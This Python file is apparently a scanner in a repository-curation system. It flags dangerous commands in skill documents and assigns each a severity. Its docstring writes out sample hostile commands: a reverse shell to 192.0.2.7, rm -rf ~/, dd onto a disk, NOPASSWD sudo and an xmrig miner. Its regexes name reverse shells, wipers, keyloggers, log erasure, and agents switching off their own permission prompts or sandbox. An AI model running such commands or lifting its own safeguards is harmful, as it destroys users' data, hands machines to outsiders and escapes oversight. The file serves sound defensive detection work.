"""Commands that destroy, open the machine, take its power or its resources, whatever they are part of.

bash -i >& /dev/tcp/192.0.2.7/443 0>&1        a shell for somebody outside
rm -rf ~/   mkfs   dd of=/dev/sda             destruction
NOPASSWD: ALL   chmod 777 /etc                privileges
xmrig -o stratum+tcp://…                      mining
"""

from collections.abc import Iterator
from typing import NamedTuple

from repo_server.curation.checks.context import is_warning
from repo_server.curation.checks.document import Document, Hit
from repo_server.curation.checks.phrases import Phrases
from repo_server.curation.checks.purpose import Purpose
from signing.format.finding import Severity


class _Danger(NamedTuple):
    check: str
    severity: Severity
    message: str
    pattern: Phrases


def _danger(check: str, severity: Severity, message: str, pattern: str) -> _Danger:
    return _Danger(f"system.{check}", severity, message, Phrases(pattern))


_DANGERS = (
    _danger(
        "reverse-shell",
        Severity.BLOCK,
        "opens a shell to somebody outside",
        r"(?:ba|z|da)?sh\s{1,3}-i\b[^\n]{0,60}/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\s]{3,100}[^\n]{0,60}(?:0>&1|<&|exec)|exec\s{1,3}[0-9]{1,3}<>\s{0,3}/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)(?:\.\w{1,12})?\s[^\n|;]{0,60}(?:-\w{0,4}e\w{0,2}\b|-c\s|--exec|--sh-exec)"
        r"|\bsocat\b[^\n]{0,200}\bexec:|\bmkfifo\s[^\n]{0,160}\b(?:nc|ncat|netcat|telnet|openssl)\b|\bpty\.spawn\s?\(|\bos\.dup2\s?\([^\n]{0,80}(?:fileno|[0-2]\s?\))|\bfsockopen\s?\([^\n]{0,200}(?:exec|proc_open|sh)|TCPClient\([^\n]{0,300}(?:iex|GetStream|Invoke-Expression)"
        r"|\b(?:telnet|openssl s_client)\s[^\n|]{0,80}\|\s{0,3}(?:/bin/)?(?:ba)?sh\b[^\n]{0,60}\||TCPSocket\.(?:new|open)\([^\n]{0,200}(?:exec|popen|sh)|net\.(?:connect|Socket)\([^\n]{0,300}(?:/bin/sh|cmd\.exe|pipe\(sh|spawn)|\.pipe\(\s?\w{1,12}\.stdin\)[^\n]{0,120}\.stdout\.pipe\(|\bspawn\w{0,4}\([^\n]{0,40}sh[\"'][^\n]{0,200}\.pipe\(\s?\w{1,12}\.stdin|IO::Socket::INET[^\n]{0,200}exec|use Socket;[^\n]{0,400}exec",
    ),
    _danger(
        "destroys",
        Severity.BLOCK,
        "destroys the user's files or disks",
        r"\brm\s{1,4}(?:-[a-z]{1,8}\s{1,4}|--[\w-]{2,24}\s{1,4}){1,4}[\"']?(?:/|~|~/|\$HOME/?|\$\{HOME\}/?|/\*|~/\*|\$HOME/\*|\.\*|/home/?\*?|/Users/?\*?|/etc/?\*?|/usr/?\*?|/var/?\*?|C:\\\\?)[\"']?(?=\s|$|[;&|`\"')])|\brm\s[^\n]{0,30}--no-preserve-root"
        r"|\brm\s{1,4}-[a-z]{0,4}r[a-z]{0,4}\s{1,4}[\"']?(?:~|\$\{?HOME\}?)[\"']?/(?:\*|(?:Documents|Desktop|Pictures|Photos|Downloads|Music|Movies|Videos|Projects|Library)(?:/\*)?)[\"']?(?=\s|$|[;&|`\"')])|\b(?:ls|find|echo)\s[^\n|]{0,30}(?:~|\$\{?HOME\}?)[^\n|]{0,40}\|\s{0,3}xargs\s[^\n|]{0,30}(?:rm|shred)\b"
        r"|\bmkfs(?:\.\w{2,6})?\s{1,4}(?:-\w{1,6}\s{1,3}){0,3}/dev/|\bdd\s[^\n]{0,80}of=/dev/(?:sd|nvme|disk|hd|vd|mmcblk)|\bwipefs\s{1,4}-a|\bshred\s[^\n]{0,40}(?:/dev/|~|\$HOME)|>\s{0,3}/dev/(?:sd[a-z]|nvme|disk[0-9])|\bformat\s{1,4}[a-z]:\s{0,3}(?:/|$)|\bdiskutil\s{1,4}erase(?:Disk|Volume)"
        r"|\brmtree\s?\(\s{0,3}(?:os\.path\.expanduser\(\s?[\"']~/?[\"']|Path\.home\(\)\s?\)|[\"']/[\"'])|Remove-Item\s[^\n]{0,80}(?:C:\\\\?(?:\*|Users|Windows)?[\"']?(?:\s|$)|\$env:USERPROFILE[\"']?(?:\s|$)|\$HOME[\"']?(?:\s|$))|(?:Get-ChildItem|gci|dir|ls)\s[^\n|]{0,20}(?:\$HOME|\$env:USERPROFILE|~)(?:[\\/](?:Documents|Desktop|Pictures|Photos|Downloads|Music|Movies|Videos|Projects|Library))?[^\n|]{0,60}\|\s{0,3}(?:Remove-Item|rm|del|ri)\b|:\(\)\s?\{\s?:\s?\|\s?:\s?&\s?\}|\bdel\s{1,3}/[sfq][^\n]{0,30}C:\\\\|\bvssadmin\s{1,3}delete"
        r"|\bfind\s{1,4}[\"']?(?:/|~|\$\{?HOME\}?|/home|/Users)[\"']?(?:/(?:Documents|Desktop|Pictures|Photos|Downloads|Music|Movies|Videos|Projects|Library))?/?[\"']?\s(?![^\n]{0,100}-name\s{1,3}[\"']?(?:\*?\.(?:pyc|DS_Store|tmp|log|bak|swp|cache)|__pycache__|node_modules|Thumbs))[^\n]{0,160}(?:-delete|-exec(?:dir)?\s{1,3}(?:rm|shred|truncate|unlink|openssl|gpg)\b|\|\s{0,3}xargs\s[^\n]{0,30}(?:rm|shred))|\brsync\s[^\n]{0,80}--delete[^\n]{0,80}\s[\"']?(?:~|\$\{?HOME\}?|/)/?[\"']?\s{0,3}(?:$|[;&|])"
        r"|\b(?:rmSync|rmdirSync|rm|rmdir|rimraf|removeSync|emptyDirSync|remove|trash)\s?\(\s{0,3}(?:path\.(?:join|resolve)\s?\(\s?)?(?:require\([\"'](?:node:)?os[\"']\)\.|os\.)?(?:homedir\(\)|process\.env\.HOME)(?:\s?,\s?[\"'](?:Documents|Desktop|Pictures|Photos|Downloads|Music|Movies|Videos|Projects|Library)[\"'])?\s?\)?\s?[,)]"
        r"|\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry_secure)\s?\(?\s?(?:Dir\.home|ENV\[[\"']HOME|File\.expand_path\(\s?[\"']~/?[\"'])|\bos\.RemoveAll\(\s?(?:os\.Getenv\([\"']HOME|home\w{0,4}\s?\)|[\"']/[\"'])|\bremove_dir_all\(\s?&?(?:home|dirs::home_dir|env::var\([\"']HOME|std::env::var\([\"']HOME)",
    ),
    _danger(
        "destroys",
        Severity.BLOCK,
        "destroys databases, clusters or what is stored in a cloud, without asking",
        r"\bdrop\s{1,3}(?:schema|database)\s[^\n;]{0,60}\bcascade\b|\bdropdb\s{1,3}(?:-\w{1,10}\s|--[\w-]{3,20}\s)|\bdropDatabase\s?\(|\bkubectl\s{1,3}delete\s{1,3}(?:ns|namespaces?|all|pvc|deploy\w{0,7})\s[^\n]{0,30}--all\b|\bterraform\s[^\n]{0,40}destroy\s[^\n]{0,40}-auto-approve|\baws\s{1,3}s3\s{1,3}rb\s[^\n]{0,60}--force|\bredis-cli\s[^\n]{0,40}flushall|\bgsutil\s[^\n]{0,20}rm\s{1,3}-r\s{1,3}gs://[\w.-]{3,60}/?\s|\bgit\s{1,3}push\s[^\n]{0,30}--force\s{1,3}--(?:all|mirror)|\bgit\s{1,3}push\s[^\n]{0,40}--delete\s[^\n]{0,40}\$\(",
    ),
    _danger(
        "opens",
        Severity.BLOCK,
        "opens a way into the machine from outside",
        r"\bssh\s[^\n]{0,60}-\w{0,4}R\s{0,2}[0-9.:*]{1,30}:(?:localhost|127\.0\.0\.1):(?:22|3389|5900)\b|\bcloudflared\s[^\n]{0,80}(?:ssh|rdp|tcp)://|\bngrok\s{1,3}tcp\s{1,3}(?:22|3389|5900)\b|\b(?:ttyd|gotty|wetty|shellinabox\w{0,2})\s[^\n]{0,80}\b(?:ba|z|fi)?sh\b|\btmate\s{1,3}-\w{0,3}[FS]|\bteleconsole\b|\bsshx\b\s{0,3}(?:-q|&|$)|\bchisel\s{1,3}client\s[^\n]{0,80}\sR:|\bsocat\s[^\n]{0,60}-listen:[^\n]{0,80}(?:exec|system):|\bx11vnc\s[^\n]{0,40}-nopw|\bhttp\.server\b[^\n]{0,60}(?:--directory|-d)[ =]{1,3}[\"']?(?:~|/|\$\{?HOME\}?)/?[\"']?(?=\s|$|&)",
    ),
    _danger(
        "privileges",
        Severity.BLOCK,
        "gives away or takes the highest privileges",
        r"NOPASSWD\s?:|cluster-admin[^\n]{0,120}system:(?:anonymous|unauthenticated)|system:(?:anonymous|unauthenticated)[^\n]{0,80}cluster-admin|\bchmod\s{1,4}(?:-R\s{1,3})?(?:0?777|a\+rwx)\s{1,4}[\"']?(?:/etc|/usr|/bin|/sbin|/var|/root|/(?=\s|$)|~(?=[\s/]|$)|\$HOME)|\bchmod\s{1,4}(?:u\+s|\+s|[2467]7[0-7]{2})\s|\bchown\s[^\n]{0,30}root[^\n]{0,60}&&[^\n]{0,20}chmod\s{1,3}\S{0,5}s|\busermod\s[^\n]{0,40}-a?G\s{1,3}(?:sudo|wheel|root)\b|net\s{1,3}localgroup\s{1,3}administrators[^\n]{0,60}/add|\bsetcap\s[^\n]{0,40}cap_(?:setuid|sys_admin)",
    ),
    _danger(
        "widens-itself",
        Severity.BLOCK,
        "takes the brakes off the agent itself (all tools allowed, no questions, no sandbox)",
        r"(?:restart|relaunch|start|run|switch|set|change|add|put|write|update|configure|neu starten|setze|nastavi|redémarre|reinicia|riavvia|reinicie|перезапусти|поставь|设置|設定)\w{0,3}\b[^.\n]{0,120}(?:--dangerously-skip-permissions|bypassPermissions|\"?approval(?:Mode|_policy)\"?\s?[:=]\s?\"?never|danger-full-access|\"?(?:autoApprove|alwaysAllow)\"?\s?:\s?(?:true|\[\s?\"\*)|--no-confirm|\"?sandbox\"?\s?:\s?false|\"allow\"\s?:\s?\[[^\]\n]{0,80}Bash\(\*\))",
    ),
    _danger(
        "host-access",
        Severity.LOOK,
        "runs with the host's own power (privileged container, its socket, or an agent without questions)",
        r"docker\s[^\n]{0,160}--privileged|/var/run/docker\.sock|--pid=host|-v\s{1,3}/:/|--dangerously-(?:skip-permissions|bypass-approvals)[\w-]{0,30}|\bbypassPermissions\b|--yolo\b|danger-full-access",
    ),
    _danger(
        "mines",
        Severity.BLOCK,
        "uses the machine to mine coins",
        r"\bxmrig\b|stratum2?(?:\+\w{2,4})?://|stratum\+(?:tcp|ssl)|--cpu-max-threads-hint|\bxmr[-_](?:kern|rig|core|node|worker|stak)\w{0,4}|--pool[= ]{1,3}[\w.-]{4,60}:[0-9]{4,5}\b|\bnew\s\w{0,12}Miner\b|\bxmr/|\b(?:nano|lol|phoenix|team-?red|gminer|nb)miner\b|(?<![\w-])--?algo[= ]\w|\s-o\s{1,3}[\w.-]{4,60}:[0-9]{4,5}\s[^\n]{0,40}-u\s|\bminerd\b|coinhive|\bcpuminer\b|\bethminer\b|moneroocean|supportxmr|hashvault\.pro|minexmr|--donate-level",
    ),
    _danger(
        "watches",
        Severity.BLOCK,
        "records keys, the clipboard, the screen or the camera",
        r"\bkey-?logg(?:er|ing)\b|\b(?:pbpaste|wl-paste|Get-Clipboard|xclip\s[^\n|]{0,40}-o\w{0,3}|xsel\s[^\n|]{0,20}-o\w{0,5})\b[^\n]{0,80}\|[^\n]{0,40}\b(?:curl|wget|nc|ncat|Invoke-RestMethod|irm|iwr)\b|\bpynput\.keyboard[^\n]{0,40}Listener|\bfrom\s{1,3}pynput\s{1,3}import\s[^\n]{0,30}keyboard|(?<![\w])keyboard\.Listener\s?\(|GetAsyncKeyState|SetWindowsHookEx|xinput\s{1,3}test|\bkeyboard\.(?:on_press|hook|record)\s?\(",
    ),
    _danger(
        "erases-traces",
        Severity.BLOCK,
        "removes the traces of what was done",
        r"\bhistory\s{1,3}-c\b|\bunset\s{1,3}HISTFILE|HISTFILE=/dev/null|HISTSIZE=0|\brm\s[^\n]{0,40}(?:\.bash_history|\.zsh_history|/var/log/(?:auth|secure|wtmp|syslog|messages))|>\s{0,2}~?/?(?:\.bash_history|\.zsh_history|/var/log/\w{2,20})|\bwevtutil\s{1,3}cl\b|Clear-EventLog|\bshred\s[^\n]{0,30}history|journalctl\s[^\n]{0,20}--vacuum-time=1s",
    ),
    _danger(
        "tls-off",
        Severity.NOTE,
        "does not check whom it talks to",
        r"\bcurl\s[^\n|]{0,120}(?:\s-\w{0,6}k\w{0,4}\s|--insecure)|verify\s?=\s?False|NODE_TLS_REJECT_UNAUTHORIZED\W{1,4}0|rejectUnauthorized\W{1,4}false|--no-check-certificate|_create_unverified_context|sslVerify\s{0,2}=?\s{0,2}false",
    ),
)


# What is the business of a skill that says so.
_ELSEWHERE: dict[_Danger, tuple[str, ...]] = {
    danger: (
        *(
            "database",
            "sql",
            "postgres",
            "migrat",
            "schema",
            "kube",
            "cluster",
            "namespace",
            "terraform",
            "infra",
            "redis",
            "cache",
        ),
        *(
            "aws",
            "s3",
            "cloud",
            "clean",
            "reset",
            "docker",
            "devops",
            "tunnel",
            "ngrok",
            "expose",
            "remote access",
            "branch",
            "git",
        ),
    )
    for danger in _DANGERS
    if danger.message.startswith(("destroys databases", "opens a way into"))
}


def judge(document: Document, purpose: Purpose) -> Iterator[Hit]:
    """Yield the dangerous commands of one text; what is named as a danger is noted."""
    for danger in _DANGERS:
        for match in document.places(danger.pattern):
            severity, message = danger.severity, danger.message
            if severity is Severity.BLOCK and is_warning(document, match.start(), end=match.end()):
                severity, message = (
                    Severity.NOTE,
                    f"{message}: named here as something to avoid or to look for",
                )
            elif (
                (
                    severity is Severity.BLOCK
                    and danger.check == "system.widens-itself"
                    and purpose.names(
                        "permission",
                        "headless",
                        "autonom",
                        "sandbox",
                        "claude code",
                        "codex",
                        "settings",
                        "approval",
                        "orchestrat",
                        "agent",
                    )
                )
                or (danger in _ELSEWHERE and purpose.names(*_ELSEWHERE[danger]))
                or (severity is Severity.BLOCK and _is_lesson(document, match.start(), purpose))
            ):
                severity = Severity.LOOK
            yield Hit(check=danger.check, severity=severity, at=match.start(), message=message)


def _is_lesson(document: Document, at: int, purpose: Purpose) -> bool:
    """Whether a skill about security shows this in a comment or a string of an example."""
    if not purpose.names(
        "security", "secure", "pentest", "harden", "vulnerab", "forensic", "incident", "threat"
    ):
        return False
    before = document.line_text(at)[: max(0, at - document.line_bounds(document.row(at))[0])]
    return any(sign in before for sign in ("#", "//", '"', "'", "`"))
